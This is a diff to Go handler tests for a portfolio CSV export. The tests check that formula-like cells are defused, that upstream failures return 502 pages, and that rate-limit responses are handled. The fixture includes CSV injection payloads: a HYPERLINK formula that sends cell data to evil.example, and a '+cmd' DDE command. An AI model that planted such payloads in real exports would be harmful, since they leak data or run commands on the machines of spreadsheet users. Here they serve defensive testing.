@@ -1,7 +1,6 @@
 package handlers_test
 
 import (
-	"context"
 	"encoding/csv"
 	"net/http"
 	"strings"
@@ -9,7 +8,6 @@ import (
 
 	"creditdash/internal/apptest"
 	"creditdash/internal/upstream"
-	"creditdash/internal/upstream/cache"
 )
 
 // A CSV export's text cells that a spreadsheet would run as formulas are
@@ -19,7 +17,7 @@ func TestExportCSVDefusesFormulas(t *testing.T) {
 		"1001,\"=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")\",+cmd|' /C calc'!A0,-1.59\n" +
 		"1002,@SUM(A1),-,+2.5\n" +
 		"1003,Plain Name,\tTabbed,3\n"
-	app := apptest.Start(t, apptest.Options{Wrap: func(cl *upstream.Client) cache.Upstream { return oddExports{cl, body} }})
+	app := apptest.Start(t, apptest.Options{StandIn: oddExports(body)})
 	p := app.SignIn(t, "demo").Get("/portfolio/export?format=csv")
 	if p.Status != http.StatusOK {
 		t.Fatalf("status %d, want 200", p.Status)
@@ -56,7 +54,7 @@ func TestExportFailureSentAsAFile(t *testing.T) {
 		{"xml", "<!DOCTYPE html><html><body>Service maintenance</body></html>", ""},
 		{"csv", `[{"BusinessId":1001}]`, ""},
 	} {
-		app := apptest.Start(t, apptest.Options{Wrap: func(cl *upstream.Client) cache.Upstream { return oddExports{cl, c.body} }})
+		app := apptest.Start(t, apptest.Options{StandIn: oddExports(c.body)})
 		p := app.SignIn(t, "demo").Get("/portfolio/export?format=" + c.format)
 		if p.Status != http.StatusBadGateway || p.Header.Get("Content-Disposition") != "" || !strings.Contains(p.Body, c.says) {
 			t.Errorf("%s export of %.30q: status %d, disposition %q; want a 502 page saying %q", c.format, c.body, p.Status, p.Header.Get("Content-Disposition"), c.says)
@@ -80,17 +78,15 @@ func TestExportHeadDownloadsNothing(t *testing.T) {
 }
 
 // refusedExports answers every export with a 429 that names no hour.
-type refusedExports struct{ *upstream.Client }
-
-func (refusedExports) Download(context.Context, string, upstream.DownloadQuery) (*upstream.Download, error) {
-	return nil, &upstream.Error{Op: "Portfolio/Download", Status: 429, Kind: upstream.ErrRateLimited, Message: "Too many exports; try in 10 minutes."}
-}
+var refusedExports = intercept("/v1/Portfolio/Download", func(w http.ResponseWriter, _ *http.Request, _ http.Handler) {
+	serviceAnswer(w, http.StatusTooManyRequests, upstream.CodeRateLimitExceeded, "Too many exports; try in 10 minutes.")
+})
 
 // An export refused with a 429 while the user's hour is not known to be
 // spent says so in the service's words, not "no requests left this hour",
 // and a typed ?export=busy claims nothing.
 func TestExportRefusedWithoutASpentHour(t *testing.T) {
-	app := apptest.Start(t, apptest.Options{Wrap: func(cl *upstream.Client) cache.Upstream { return refusedExports{cl} }})
+	app := apptest.Start(t, apptest.Options{StandIn: refusedExports})
 	u := app.SignIn(t, "demo")
 	p := u.Get("/portfolio/export?format=csv")
 	if p.Status != http.StatusTooManyRequests || !strings.Contains(p.Body, "Too many exports; try in 10 minutes.") ||
